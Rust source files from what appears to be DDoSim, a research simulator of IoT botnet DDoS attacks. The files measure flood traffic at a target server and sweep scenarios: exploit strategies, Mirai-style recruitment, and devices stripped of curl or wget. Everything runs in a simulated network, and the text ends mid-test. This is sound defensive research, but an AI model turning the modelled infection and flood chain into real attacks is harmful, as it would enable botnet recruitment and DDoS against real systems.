//! Assembles the paper's three components over the simulated network
//! (Fig. 1): **Attacker** (exploit servers, file server, C&C), **Devs**
//! (containers running vulnerable daemons), and **TServer** (the NS-3-style
//! sink that measures the attack), then drives the full scenario:
//! initialization → memory-error infection → Mirai recruitment → commanded
//! UDP-PLAIN flood → measurement.
//!
//! # Examples
//!
//! ```no_run
//! use ddosim_core::{AttackSpec, SimulationBuilder};
//! use std::time::Duration;
//!
//! let result = SimulationBuilder::new()
//!     .devs(50)
//!     .attack(AttackSpec::udp_plain(Duration::from_secs(100)))
//!     .seed(42)
//!     .run()
//!     .expect("valid configuration");
//! println!(
//!     "average received data rate: {:.1} kbps ({}/{} Devs recruited)",
//!     result.avg_received_data_rate_kbps, result.infected, result.devs
//! );
//! ```

#![warn(missing_docs)]
#![warn(missing_debug_implementations)]

pub mod checkpoint;
pub mod config;
pub mod experiment;
pub mod honeypot;
pub mod instance;
pub mod metrics;
pub mod reboot;
pub mod record;
pub mod report;
pub mod result;
pub mod suffix;

pub use checkpoint::{Checkpoint, CHECKPOINT_SCHEMA};
pub use config::{
    AttackSpec, BinaryMix, DaemonKind, ExploitStrategy, Recruitment, RngPlan, SimulationBuilder,
    SimulationConfig, TopologyKind,
};
pub use experiment::{
    crn_compare, install_location_hook, panic_message, run_configs, run_suffixes,
    run_suffixes_streamed, run_suffixes_traced, take_panic_location, try_run_configs,
    try_run_configs_streamed, CrnComparison, SuffixOutcome,
};
pub use honeypot::Honeypot;
pub use faults::{FaultEvent, FaultKind, FaultPlan, PlanError, FAULT_PLAN_SCHEMA};
pub use instance::{Ddosim, DevInfo, ATTACKER_IMAGE_BYTES, DEV_IMAGE_BASE_BYTES};
pub use metrics::{bytes_to_gb, MemoryModel, TServerSink};
pub use reboot::RebootController;
pub use netsim::{Telemetry, TelemetryConfig};
pub use record::{compare, load_results, save_results, Drift};
pub use result::{ChurnSummary, RunResult};
pub use suffix::{SuffixPlan, SuffixSpec, SUFFIX_SCHEMA};
