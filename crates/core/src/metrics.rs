//! TServer measurement and the paper's metrics.
//!
//! [`TServerSink`] is the customized NS-3 sink application of §II-C: it
//! records the per-second received data rate at the target server, from
//! which Eq. 2's *average received data rate* is computed, and counts flood
//! packets via their markers.

use netsim::{Application, Ctx, Packet, SimTime, TcpEvent};
use protocols::{DnsMessage, FloodMarker};
use std::time::Duration;

const TIMER_SECOND: u64 = 1;

/// The TServer sink application: binds the attacked port and samples the
/// node's receive counters every simulated second.
#[derive(Debug, Default)]
pub struct TServerSink {
    /// Wire bytes received in each whole second of the simulation.
    pub per_second_bytes: Vec<u64>,
    last_total: u64,
    /// Flood packets recognized by their marker.
    pub flood_packets: u64,
    /// Flood wire bytes recognized by their marker.
    pub flood_bytes: u64,
    /// Time of the first flood packet, if any.
    pub first_flood_at: Option<SimTime>,
    /// Reflected DNS answers received (the amplification vector: TServer
    /// never queries anyone, so every DNS response landing here was
    /// bounced off a resolver by a forged query).
    pub amp_packets: u64,
    /// Wire bytes of reflected DNS answers.
    pub amp_bytes: u64,
    bound_port: u16,
}

impl TServerSink {
    /// Creates a sink that binds `port` (the attack target port).
    pub fn new(port: u16) -> Self {
        TServerSink {
            bound_port: port,
            ..TServerSink::default()
        }
    }

    /// Received data rate (kbits) for second `i`, if sampled.
    pub fn kbits_in_second(&self, i: usize) -> Option<f64> {
        self.per_second_bytes.get(i).map(|b| *b as f64 * 8.0 / 1000.0)
    }

    /// The paper's Eq. 2: the average received data rate (kbps) over the
    /// window `[start, start + duration)`, i.e. total kbits received over
    /// the attack window divided by the attack duration in seconds.
    ///
    /// Sub-second window edges weight the partially covered first/last
    /// sampling bins by their fractional overlap (samples are per-second
    /// totals, so a bin's bytes are attributed uniformly across its
    /// second). Whole-second windows reduce exactly to the plain
    /// sum-over-bins / seconds form. An earlier revision truncated both
    /// edges to whole seconds (`as_secs()`), so a 2.5 s window measured as
    /// 2 s and inflated the reported kbps.
    pub fn average_received_data_rate_kbps(&self, start: Duration, duration: Duration) -> f64 {
        let start_s = start.as_secs_f64();
        let dur_s = duration.as_secs_f64();
        if dur_s <= 0.0 {
            return 0.0;
        }
        let end_s = start_s + dur_s;
        let first_bin = start_s.floor() as usize;
        let mut total_kbits = 0.0;
        for (bin, &bytes) in self
            .per_second_bytes
            .iter()
            .enumerate()
            .skip(first_bin)
        {
            let bin_start = bin as f64;
            if bin_start >= end_s {
                break;
            }
            let overlap = (bin_start + 1.0).min(end_s) - bin_start.max(start_s);
            if overlap > 0.0 {
                total_kbits += overlap * (bytes as f64 * 8.0 / 1000.0);
            }
        }
        total_kbits / dur_s
    }
}

impl Application for TServerSink {
    fn name(&self) -> &str {
        "tserver-sink"
    }

    fn fork(&self, _map: &netsim::ForkMap) -> Option<Box<dyn Application>> {
        Some(Box::new(TServerSink {
            per_second_bytes: self.per_second_bytes.clone(),
            last_total: self.last_total,
            flood_packets: self.flood_packets,
            flood_bytes: self.flood_bytes,
            first_flood_at: self.first_flood_at,
            amp_packets: self.amp_packets,
            amp_bytes: self.amp_bytes,
            bound_port: self.bound_port,
        }))
    }

    fn state_digest(&self, h: &mut netsim::StateHasher) {
        h.write_usize(self.per_second_bytes.len());
        for b in &self.per_second_bytes {
            h.write_u64(*b);
        }
        h.write_u64(self.last_total);
        h.write_u64(self.flood_packets);
        h.write_u64(self.flood_bytes);
        match self.first_flood_at {
            None => h.write_bool(false),
            Some(t) => {
                h.write_bool(true);
                h.write_u64(t.as_nanos());
            }
        }
        h.write_u64(self.amp_packets);
        h.write_u64(self.amp_bytes);
        h.write_u32(u32::from(self.bound_port));
    }

    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
        let _ = ctx.udp_bind(self.bound_port);
        // Stream floods (HTTP GET) arrive over TCP on the same port.
        let _ = ctx.tcp_listen(self.bound_port);
        ctx.set_timer(Duration::from_secs(1), TIMER_SECOND);
    }

    fn on_timer(&mut self, ctx: &mut Ctx<'_>, token: u64) {
        if token != TIMER_SECOND {
            return;
        }
        let node = ctx.node_id();
        let total = ctx.sim().node(node).rx_bytes();
        self.per_second_bytes.push(total - self.last_total);
        self.last_total = total;
        ctx.set_timer(Duration::from_secs(1), TIMER_SECOND);
    }

    fn on_packet(&mut self, ctx: &mut Ctx<'_>, packet: &Packet) {
        if packet.payload.get::<FloodMarker>().is_some() {
            self.flood_packets += 1;
            self.flood_bytes += u64::from(packet.wire_bytes());
            if self.first_flood_at.is_none() {
                self.first_flood_at = Some(ctx.now());
            }
        } else if matches!(
            packet.payload.get::<DnsMessage>(),
            Some(DnsMessage::Response { .. })
        ) {
            self.amp_packets += 1;
            self.amp_bytes += u64::from(packet.wire_bytes());
            if self.first_flood_at.is_none() {
                self.first_flood_at = Some(ctx.now());
            }
        }
    }

    fn on_tcp(&mut self, ctx: &mut Ctx<'_>, event: TcpEvent) {
        if let TcpEvent::Data { payload, bytes, .. } = event {
            if payload.get::<FloodMarker>().is_some() {
                // Count the stream request plus its TCP/IP framing so the
                // flood byte metric is comparable across vectors.
                self.flood_packets += 1;
                self.flood_bytes += u64::from(bytes + 40);
                if self.first_flood_at.is_none() {
                    self.first_flood_at = Some(ctx.now());
                }
            }
        }
    }
}

/// Host-memory model behind Table I.
///
/// The paper measures the *host's* memory while DDoSim runs: a framework
/// base (VM, Docker daemon, NS-3), a per-container cost, and — during the
/// attack — per-packet bookkeeping the simulator host accumulates for
/// traffic generated during the attack ("1.79 GB extra memory to store
/// traffic generated during the attack", §IV-B).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct MemoryModel {
    /// Fixed framework footprint in bytes (VM + Docker + NS-3 core).
    pub framework_base_bytes: u64,
    /// Host bookkeeping charged per packet processed during the attack.
    pub per_packet_host_bytes: u64,
}

impl Default for MemoryModel {
    fn default() -> Self {
        MemoryModel {
            framework_base_bytes: 210_000_000,
            per_packet_host_bytes: 1024,
        }
    }
}

impl MemoryModel {
    /// Pre-attack memory: framework base plus all container memory.
    pub fn pre_attack_bytes(&self, container_bytes: u64) -> u64 {
        self.framework_base_bytes + container_bytes
    }

    /// Attack-phase memory: pre-attack plus per-packet bookkeeping for
    /// every packet the simulation processed during the attack window.
    pub fn attack_bytes(&self, container_bytes: u64, attack_packets: u64) -> u64 {
        self.pre_attack_bytes(container_bytes) + attack_packets * self.per_packet_host_bytes
    }
}

/// Formats bytes as gigabytes with two decimals, as Table I reports.
pub fn bytes_to_gb(bytes: u64) -> f64 {
    bytes as f64 / 1e9
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn eq2_averages_over_window() {
        let sink = TServerSink {
            per_second_bytes: vec![0, 0, 1000, 1000, 1000, 0],
            ..TServerSink::default()
        };
        // Window covering seconds 2..5: 3000 bytes = 24 kbit over 3 s.
        let avg = sink.average_received_data_rate_kbps(
            Duration::from_secs(2),
            Duration::from_secs(3),
        );
        assert!((avg - 8.0).abs() < 1e-9);
    }

    #[test]
    fn eq2_window_beyond_series_is_zero_padded() {
        let sink = TServerSink {
            per_second_bytes: vec![1000],
            ..TServerSink::default()
        };
        let avg = sink.average_received_data_rate_kbps(
            Duration::from_secs(0),
            Duration::from_secs(10),
        );
        assert!((avg - 0.8).abs() < 1e-9);
    }

    #[test]
    fn eq2_sub_second_duration_is_not_truncated() {
        // 1000 B in every covered second. A 2.5 s window starting on a
        // whole second covers bins 2, 3 fully and half of bin 4:
        // (8 + 8 + 4) kbit / 2.5 s = 8 kbps. The truncating revision
        // measured 2 s instead (and at < 1 s windows clamped to 1 s).
        let sink = TServerSink {
            per_second_bytes: vec![1000; 6],
            ..TServerSink::default()
        };
        let avg = sink.average_received_data_rate_kbps(
            Duration::from_secs(2),
            Duration::from_millis(2500),
        );
        assert!((avg - 8.0).abs() < 1e-9, "got {avg}");
        // A window whose fractional bin dominates makes the truncation
        // starkly visible: bins 2..5 are [0, 0, 4000], so 2.5 s from
        // t = 2 → (0 + 0 + 0.5·32) kbit / 2.5 s = 6.4, where the
        // truncating revision reported 0.
        let sink = TServerSink {
            per_second_bytes: vec![0, 0, 0, 0, 4000, 0],
            ..TServerSink::default()
        };
        let avg = sink.average_received_data_rate_kbps(
            Duration::from_secs(2),
            Duration::from_millis(2500),
        );
        assert!((avg - 6.4).abs() < 1e-9, "got {avg}");
    }

    #[test]
    fn eq2_sub_second_start_weights_the_first_bin() {
        // Start at 1.75 s for 1 s: 0.25 of bin 1 (800 B) + 0.75 of bin 2
        // (4000 B) = (0.25·6.4 + 0.75·32) kbit = 25.6 kbit over 1 s. The
        // truncating revision started at bin 1 and reported 6.4.
        let sink = TServerSink {
            per_second_bytes: vec![0, 800, 4000, 0],
            ..TServerSink::default()
        };
        let avg = sink.average_received_data_rate_kbps(
            Duration::from_millis(1750),
            Duration::from_secs(1),
        );
        assert!((avg - 25.6).abs() < 1e-9, "got {avg}");
    }

    #[test]
    fn eq2_window_smaller_than_one_bin() {
        // A 250 ms window inside one 1000 B bin sees the bin's rate, not
        // a quarter of it: 0.25 s · 8 kbps / 0.25 s = 8 kbps.
        let sink = TServerSink {
            per_second_bytes: vec![0, 1000, 0],
            ..TServerSink::default()
        };
        let avg = sink.average_received_data_rate_kbps(
            Duration::from_millis(1500),
            Duration::from_millis(250),
        );
        assert!((avg - 8.0).abs() < 1e-9, "got {avg}");
    }

    #[test]
    fn eq2_zero_duration_is_zero() {
        let sink = TServerSink {
            per_second_bytes: vec![1000],
            ..TServerSink::default()
        };
        let avg = sink.average_received_data_rate_kbps(Duration::ZERO, Duration::ZERO);
        assert_eq!(avg, 0.0);
    }

    #[test]
    fn memory_model_shapes() {
        let m = MemoryModel::default();
        let pre = m.pre_attack_bytes(20 * 8_500_000);
        assert!(pre > m.framework_base_bytes);
        let attack = m.attack_bytes(20 * 8_500_000, 1_000_000);
        assert_eq!(attack - pre, 1_000_000 * 1024);
    }

    #[test]
    fn gb_conversion() {
        assert!((bytes_to_gb(380_000_000) - 0.38).abs() < 1e-9);
    }

    #[test]
    fn kbits_accessor() {
        let sink = TServerSink {
            per_second_bytes: vec![125],
            ..TServerSink::default()
        };
        assert_eq!(sink.kbits_in_second(0), Some(1.0));
        assert_eq!(sink.kbits_in_second(1), None);
    }
}
