//! The paper's experiment series: parameter sweeps that regenerate every
//! table and figure of §IV.
//!
//! Each function returns typed rows; the `ddosim-bench` binaries render
//! them with [`crate::report::Table`] and record them for EXPERIMENTS.md.
//! Sweeps run their configurations in parallel (one simulator per thread;
//! simulators are single-threaded worlds).

use crate::config::{Recruitment, SimulationBuilder, SimulationConfig};
use crate::instance::Ddosim;
use crate::result::RunResult;
use crate::suffix::SuffixSpec;
use churn::ChurnMode;
use firmware::CommandSet;
use std::cell::RefCell;
use std::panic::{catch_unwind, AssertUnwindSafe};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Mutex, Once, PoisonError};
use std::time::Duration;
use tinyvm::{ProtectionMix, Protections};

/// Renders a panic payload (the `Box<dyn Any>` from [`catch_unwind`]) as
/// the message string it almost always carries.
fn panic_message(payload: &(dyn std::any::Any + Send)) -> String {
    if let Some(s) = payload.downcast_ref::<&str>() {
        (*s).to_owned()
    } else if let Some(s) = payload.downcast_ref::<String>() {
        s.clone()
    } else {
        "non-string panic payload".to_owned()
    }
}

thread_local! {
    static LAST_PANIC_LOCATION: RefCell<Option<String>> = const { RefCell::new(None) };
}

static INSTALL_LOCATION_HOOK: Once = Once::new();

/// Installs (once, process-wide) a panic hook that remembers the last
/// panic's `file:line` for the panicking thread, chaining to the previous
/// hook. [`catch_unwind`] only yields the payload; the location lives in
/// the hook's `PanicHookInfo`, so without this a worker panic reports
/// *what* fired but not *where*.
fn install_location_hook() {
    INSTALL_LOCATION_HOOK.call_once(|| {
        let prev = std::panic::take_hook();
        std::panic::set_hook(Box::new(move |info| {
            let loc = info
                .location()
                .map(|l| format!("{}:{}", l.file(), l.line()));
            LAST_PANIC_LOCATION.with(|c| *c.borrow_mut() = loc);
            prev(info);
        }));
    });
}

/// Takes (and clears) the location of the current thread's last panic.
fn take_panic_location() -> String {
    LAST_PANIC_LOCATION
        .with(|c| c.borrow_mut().take())
        .map(|l| format!(" at {l}"))
        .unwrap_or_default()
}

/// Runs each configuration (in parallel across available threads) and
/// returns per-run outcomes in input order: `Ok(result)` for runs that
/// completed, `Err(message)` for configurations that were invalid or
/// panicked mid-run. One bad point in a sweep costs that row, not the
/// hours of completed rows around it.
pub fn try_run_configs(configs: Vec<SimulationConfig>) -> Vec<Result<RunResult, String>> {
    install_location_hook();
    let n = configs.len();
    let threads = std::thread::available_parallelism()
        .map(std::num::NonZeroUsize::get)
        .unwrap_or(4)
        .min(n.max(1));
    let next = AtomicUsize::new(0);
    let results: Mutex<Vec<Option<Result<RunResult, String>>>> =
        Mutex::new((0..n).map(|_| None).collect());
    std::thread::scope(|scope| {
        for _ in 0..threads {
            scope.spawn(|| loop {
                let i = next.fetch_add(1, Ordering::Relaxed);
                if i >= n {
                    break;
                }
                let config = configs[i].clone();
                // A panicking run must not poison the shared results (that
                // would abort the whole sweep): catch it here and record it
                // as this row's outcome. The worker loop then moves on to
                // the next configuration.
                let outcome =
                    match catch_unwind(AssertUnwindSafe(|| {
                        Ddosim::new(config).map(Ddosim::run_to_completion)
                    })) {
                        Ok(Ok(result)) => Ok(result),
                        Ok(Err(msg)) => Err(format!("configuration {i} invalid: {msg}")),
                        Err(payload) => Err(format!(
                            "run {i} panicked{}: {}",
                            take_panic_location(),
                            panic_message(&*payload)
                        )),
                    };
                // Poison recovery: a panic between lock() and the store on
                // some other thread (e.g. in an allocator hook) still
                // leaves the Vec structurally intact.
                results.lock().unwrap_or_else(PoisonError::into_inner)[i] = Some(outcome);
            });
        }
    });
    results
        .into_inner()
        .unwrap_or_else(PoisonError::into_inner)
        .into_iter()
        .map(|r| r.expect("every index was produced"))
        .collect()
}

/// A forked [`Ddosim`] crossing a thread boundary.
///
/// SAFETY: `Ddosim::fork` deep-clones the whole world — every `Rc` in the
/// fork's object graph (containers, TCP state, telemetry collectors) is
/// freshly allocated and reachable only through this fork, so moving the
/// world to another thread moves *all* owners of each `Rc` together.
/// `Arc`-shared content (firmware images, served files, propagation
/// target lists) is plain immutable data.
struct SendWorld(Ddosim);
unsafe impl Send for SendWorld {}

/// One completed scenario-tree branch: the run's result plus — when the
/// world records — the fork's full flight-recorder trace. The trace
/// includes the shared prefix (a fork inherits the parent's recorder
/// contents and sequence counter), so diffing it against a
/// straight-through run's trace proves fork equivalence byte for byte.
#[derive(Debug)]
pub struct SuffixOutcome {
    /// The branch's run result.
    pub result: RunResult,
    /// The branch's flight-recorder document, if recording was enabled.
    pub trace: Option<djson::Json>,
}

/// Fans a scenario tree's suffixes out across the worker pool: forks
/// `parent` once per suffix (decorrelated by each suffix's fork seed),
/// applies the suffix's divergence, and runs every fork to completion.
/// Outcomes come back in input order, one per suffix — `Err` rows carry
/// the fork/apply/run failure without costing the rows around them.
///
/// The parent must already stand at the fork point (run it there with
/// [`Ddosim::run_prefix`]); it is only read, never advanced, so the
/// caller can fork it again for another round.
pub fn run_suffixes(parent: &Ddosim, suffixes: &[SuffixSpec]) -> Vec<Result<RunResult, String>> {
    run_suffixes_traced(parent, suffixes)
        .into_iter()
        .map(|row| row.map(|o| o.result))
        .collect()
}

/// [`run_suffixes`], but each successful row also carries the fork's
/// flight-recorder trace (see [`SuffixOutcome`]).
pub fn run_suffixes_traced(
    parent: &Ddosim,
    suffixes: &[SuffixSpec],
) -> Vec<Result<SuffixOutcome, String>> {
    install_location_hook();
    // Fork on this thread (forks are cheap next to running them), then
    // hand each disjoint world to the pool.
    let worlds: Vec<Result<SendWorld, String>> = suffixes
        .iter()
        .map(|spec| {
            let mut world = parent.fork_with_seed(spec.fork_seed)?;
            world.apply_suffix(spec)?;
            Ok(SendWorld(world))
        })
        .collect();
    let n = worlds.len();
    let threads = std::thread::available_parallelism()
        .map(std::num::NonZeroUsize::get)
        .unwrap_or(4)
        .min(n.max(1));
    let next = AtomicUsize::new(0);
    let slots: Mutex<Vec<Option<Result<SendWorld, String>>>> =
        Mutex::new(worlds.into_iter().map(Some).collect());
    let results: Mutex<Vec<Option<Result<SuffixOutcome, String>>>> =
        Mutex::new((0..n).map(|_| None).collect());
    std::thread::scope(|scope| {
        for _ in 0..threads {
            scope.spawn(|| loop {
                let i = next.fetch_add(1, Ordering::Relaxed);
                if i >= n {
                    break;
                }
                let world = slots.lock().unwrap_or_else(PoisonError::into_inner)[i]
                    .take()
                    .expect("each index is claimed exactly once");
                let outcome = match world {
                    Err(msg) => Err(format!("suffix {i} invalid: {msg}")),
                    Ok(SendWorld(w)) => {
                        // The handle shares the fork's collectors, so it
                        // stays readable after the run consumes the world.
                        let tele = w.telemetry().clone();
                        match catch_unwind(AssertUnwindSafe(|| w.try_run_to_completion())) {
                            Ok(Ok((result, _))) => Ok(SuffixOutcome {
                                result,
                                trace: tele.recorder_json(),
                            }),
                            Ok(Err(msg)) => Err(format!("suffix {i} failed: {msg}")),
                            Err(payload) => Err(format!(
                                "suffix {i} panicked{}: {}",
                                take_panic_location(),
                                panic_message(&*payload)
                            )),
                        }
                    }
                };
                results.lock().unwrap_or_else(PoisonError::into_inner)[i] = Some(outcome);
            });
        }
    });
    results
        .into_inner()
        .unwrap_or_else(PoisonError::into_inner)
        .into_iter()
        .map(|r| r.expect("every index was produced"))
        .collect()
}

/// Runs each configuration (in parallel across available threads) and
/// returns results in input order.
///
/// # Panics
///
/// Panics if any configuration is invalid or any run panicked — sweep code
/// constructs its own configurations, so this indicates a programming
/// error. Unlike a raw worker panic, the message aggregates *all* failed
/// rows after every other row has finished. Use [`try_run_configs`] to
/// keep partial results instead.
pub fn run_configs(configs: Vec<SimulationConfig>) -> Vec<RunResult> {
    let outcomes = try_run_configs(configs);
    let failures: Vec<String> = outcomes
        .iter()
        .filter_map(|r| r.as_ref().err().cloned())
        .collect();
    assert!(
        failures.is_empty(),
        "sweep failed on {} of {} runs: {}",
        failures.len(),
        outcomes.len(),
        failures.join("; ")
    );
    outcomes
        .into_iter()
        .map(|r| r.expect("failures are empty"))
        .collect()
}

fn mean(values: impl Iterator<Item = f64>) -> f64 {
    let v: Vec<f64> = values.collect();
    if v.is_empty() {
        return 0.0;
    }
    v.iter().sum::<f64>() / v.len() as f64
}

/// One point of Figure 2.
#[derive(Debug, Clone)]
pub struct Fig2Point {
    /// Number of Devs.
    pub devs: usize,
    /// Churn variant.
    pub churn: ChurnMode,
    /// Mean average received data rate over replicates (kbps).
    pub avg_kbps: f64,
    /// Mean infected count over replicates.
    pub infected: f64,
    /// Per-replicate results.
    pub runs: Vec<RunResult>,
}

/// Figure 2: average received data rate vs number of Devs, for each churn
/// level; 100-second attack (§IV-B).
pub fn fig2(dev_counts: &[usize], replicates: u64, base_seed: u64) -> Vec<Fig2Point> {
    let modes = [ChurnMode::None, ChurnMode::Static, ChurnMode::Dynamic];
    let mut configs = Vec::new();
    for &devs in dev_counts {
        for &mode in &modes {
            for rep in 0..replicates {
                configs.push(
                    SimulationBuilder::new()
                        .devs(devs)
                        .churn(mode)
                        .seed(base_seed + rep)
                        .config()
                        .clone(),
                );
            }
        }
    }
    let results = run_configs(configs);
    let mut points = Vec::new();
    let mut it = results.into_iter();
    for &devs in dev_counts {
        for &mode in &modes {
            let runs: Vec<RunResult> = (&mut it).take(replicates as usize).collect();
            points.push(Fig2Point {
                devs,
                churn: mode,
                avg_kbps: mean(runs.iter().map(|r| r.avg_received_data_rate_kbps)),
                infected: mean(runs.iter().map(|r| r.infected as f64)),
                runs,
            });
        }
    }
    points
}

/// One point of Figure 3.
#[derive(Debug, Clone)]
pub struct Fig3Point {
    /// Number of Devs in the round.
    pub devs: usize,
    /// Commanded attack duration (seconds).
    pub duration_secs: u64,
    /// Mean average received data rate (kbps).
    pub avg_kbps: f64,
    /// Per-replicate results.
    pub runs: Vec<RunResult>,
}

/// Figure 3: average received data rate vs attack duration (150/200/300 s),
/// across rounds of 50/100/150/200 Devs (§IV-B); no churn.
pub fn fig3(
    dev_counts: &[usize],
    durations_secs: &[u64],
    replicates: u64,
    base_seed: u64,
) -> Vec<Fig3Point> {
    let mut configs = Vec::new();
    for &devs in dev_counts {
        for &dur in durations_secs {
            for rep in 0..replicates {
                configs.push(
                    SimulationBuilder::new()
                        .devs(devs)
                        .attack(crate::AttackSpec::udp_plain(Duration::from_secs(dur)))
                        .seed(base_seed + rep)
                        .config()
                        .clone(),
                );
            }
        }
    }
    let results = run_configs(configs);
    let mut points = Vec::new();
    let mut it = results.into_iter();
    for &devs in dev_counts {
        for &dur in durations_secs {
            let runs: Vec<RunResult> = (&mut it).take(replicates as usize).collect();
            points.push(Fig3Point {
                devs,
                duration_secs: dur,
                avg_kbps: mean(runs.iter().map(|r| r.avg_received_data_rate_kbps)),
                runs,
            });
        }
    }
    points
}

/// One row of Table I.
#[derive(Debug, Clone)]
pub struct Table1Row {
    /// Number of Devs.
    pub devs: usize,
    /// Pre-attack memory (GB).
    pub pre_attack_mem_gb: f64,
    /// Attack-phase memory (GB).
    pub attack_mem_gb: f64,
    /// Attack wall-clock, `m:ss`.
    pub attack_time: String,
    /// Raw attack wall-clock seconds.
    pub attack_wall_clock_secs: f64,
}

/// Table I: hardware resources consumed vs number of Devs (20–130),
/// 100-second attack, no churn (§IV-B).
pub fn table1(dev_counts: &[usize], base_seed: u64) -> Vec<Table1Row> {
    let configs: Vec<SimulationConfig> = dev_counts
        .iter()
        .map(|&devs| SimulationBuilder::new().devs(devs).seed(base_seed).config().clone())
        .collect();
    // Wall-clock is the measurement here: run sequentially so runs do not
    // contend for cores.
    let results: Vec<RunResult> = configs
        .into_iter()
        .map(|c| {
            Ddosim::new(c)
                .expect("table1 configurations are valid")
                .run_to_completion()
        })
        .collect();
    dev_counts
        .iter()
        .zip(results)
        .map(|(&devs, r)| Table1Row {
            devs,
            pre_attack_mem_gb: r.pre_attack_mem_gb,
            attack_mem_gb: r.attack_mem_gb,
            attack_time: r.attack_time_m_ss(),
            attack_wall_clock_secs: r.attack_wall_clock_secs,
        })
        .collect()
}

/// One cell of the infection-rate matrix (R1/R2).
#[derive(Debug, Clone)]
pub struct InfectionPoint {
    /// Protection configuration of all Devs in the run.
    pub protections: Protections,
    /// Exploit strategy used by the Attacker.
    pub strategy: crate::ExploitStrategy,
    /// Fraction of Devs recruited.
    pub infection_rate: f64,
    /// Mean seconds from start to infection (recruited Devs only).
    pub mean_time_to_infection_secs: f64,
}

/// R1/R2: infection rate by (protections × exploit strategy). The paper's
/// headline cell is leak+rebase against random protection subsets → 100%.
pub fn infection_matrix(devs: usize, base_seed: u64) -> Vec<InfectionPoint> {
    let strategies = [
        crate::ExploitStrategy::LeakRebase,
        crate::ExploitStrategy::StaticChain,
        crate::ExploitStrategy::CodeInjection,
    ];
    let mut configs = Vec::new();
    for &p in &Protections::ALL_SUBSETS {
        for &s in &strategies {
            configs.push(
                SimulationBuilder::new()
                    .devs(devs)
                    .protections(ProtectionMix::Uniform(p))
                    .strategy(s)
                    .seed(base_seed)
                    .config()
                    .clone(),
            );
        }
    }
    let results = run_configs(configs);
    let mut points = Vec::new();
    let mut it = results.into_iter();
    for &p in &Protections::ALL_SUBSETS {
        for &s in &strategies {
            let r = it.next().expect("one result per cell");
            let mean_t = mean(r.infection_times_secs.iter().copied());
            points.push(InfectionPoint {
                protections: p,
                strategy: s,
                infection_rate: r.infection_rate,
                mean_time_to_infection_secs: mean_t,
            });
        }
    }
    points
}

/// One row of the hardening/insight ablations (§IV-C).
#[derive(Debug, Clone)]
pub struct AblationRow {
    /// Human-readable ablation label.
    pub label: String,
    /// Infection rate achieved.
    pub infection_rate: f64,
    /// Average received data rate (kbps).
    pub avg_kbps: f64,
}

/// §IV-C insight ablations: removing `curl` blocks infection; capping the
/// device data rate caps attack magnitude.
pub fn ablations(devs: usize, base_seed: u64) -> Vec<AblationRow> {
    let cases: Vec<(String, SimulationConfig)> = vec![
        (
            "baseline (curl present, 100-500 kbps)".to_owned(),
            SimulationBuilder::new().devs(devs).seed(base_seed).config().clone(),
        ),
        (
            "vendor removes curl".to_owned(),
            SimulationBuilder::new()
                .devs(devs)
                .commands(CommandSet::without(&["curl"]))
                .seed(base_seed)
                .config()
                .clone(),
        ),
        (
            "vendor removes wget (stage-2 blocked)".to_owned(),
            SimulationBuilder::new()
                .devs(devs)
                .commands(CommandSet::without(&["wget"]))
                .seed(base_seed)
                .config()
                .clone(),
        ),
        (
            "device data rate capped at 100-150 kbps".to_owned(),
            SimulationBuilder::new()
                .devs(devs)
                .access_rate_kbps(100..=150)
                .seed(base_seed)
                .config()
                .clone(),
        ),
        (
            "device data rate 400-500 kbps".to_owned(),
            SimulationBuilder::new()
                .devs(devs)
                .access_rate_kbps(400..=500)
                .seed(base_seed)
                .config()
                .clone(),
        ),
        (
            "firmware rebuilt with stack canaries".to_owned(),
            SimulationBuilder::new()
                .devs(devs)
                .protections(ProtectionMix::Uniform(Protections::HARDENED))
                .seed(base_seed)
                .config()
                .clone(),
        ),
        (
            "tiered Internet (5 regions x 5 Mbps uplinks)".to_owned(),
            SimulationBuilder::new()
                .devs(devs)
                .topology(crate::TopologyKind::Tiered {
                    regions: 5,
                    region_uplink_bps: 5_000_000,
                })
                .seed(base_seed)
                .config()
                .clone(),
        ),
    ];
    let (labels, configs): (Vec<String>, Vec<SimulationConfig>) = cases.into_iter().unzip();
    let results = run_configs(configs);
    labels
        .into_iter()
        .zip(results)
        .map(|(label, r)| AblationRow {
            label,
            infection_rate: r.infection_rate,
            avg_kbps: r.avg_received_data_rate_kbps,
        })
        .collect()
}

/// Comparison of recruitment mechanisms: the paper's memory-error entry
/// point vs the Mirai-classic credential dictionary.
#[derive(Debug, Clone)]
pub struct RecruitmentRow {
    /// Mechanism label.
    pub label: String,
    /// Fraction of Devs recruited.
    pub infection_rate: f64,
    /// Average received data rate achieved by the resulting botnet (kbps).
    pub avg_kbps: f64,
}

/// Memory-error recruitment vs credential-scanner baseline at several
/// default-credential prevalence levels.
pub fn recruitment_comparison(devs: usize, base_seed: u64) -> Vec<RecruitmentRow> {
    let mut cases: Vec<(String, SimulationConfig)> = vec![(
        "memory-error exploitation (paper)".to_owned(),
        SimulationBuilder::new().devs(devs).seed(base_seed).config().clone(),
    )];
    for frac in [0.2, 0.5, 0.8] {
        cases.push((
            format!("credential scanner, {:.0}% default creds", frac * 100.0),
            SimulationBuilder::new()
                .devs(devs)
                .recruitment(Recruitment::CredentialScanner {
                    default_credential_fraction: frac,
                })
                .seed(base_seed)
                .config()
                .clone(),
        ));
    }
    let (labels, configs): (Vec<String>, Vec<SimulationConfig>) = cases.into_iter().unzip();
    let results = run_configs(configs);
    labels
        .into_iter()
        .zip(results)
        .map(|(label, r)| RecruitmentRow {
            label,
            infection_rate: r.infection_rate,
            avg_kbps: r.avg_received_data_rate_kbps,
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn small(devs: usize, seed: u64) -> SimulationConfig {
        SimulationBuilder::new()
            .devs(devs)
            .attack(crate::AttackSpec::udp_plain(Duration::from_secs(15)))
            .attack_at(Duration::from_secs(25))
            .sim_time(Duration::from_secs(45))
            .attack_ramp(Duration::from_secs(2))
            .seed(seed)
            .config()
            .clone()
    }

    #[test]
    fn run_configs_preserves_order_and_parallelizes() {
        let configs = vec![small(2, 1), small(4, 2), small(6, 3)];
        let results = run_configs(configs);
        assert_eq!(results.len(), 3);
        assert_eq!(results[0].devs, 2);
        assert_eq!(results[1].devs, 4);
        assert_eq!(results[2].devs, 6);
    }

    #[test]
    fn identical_configs_give_identical_results() {
        let results = run_configs(vec![small(3, 9), small(3, 9)]);
        assert_eq!(
            results[0].avg_received_data_rate_kbps,
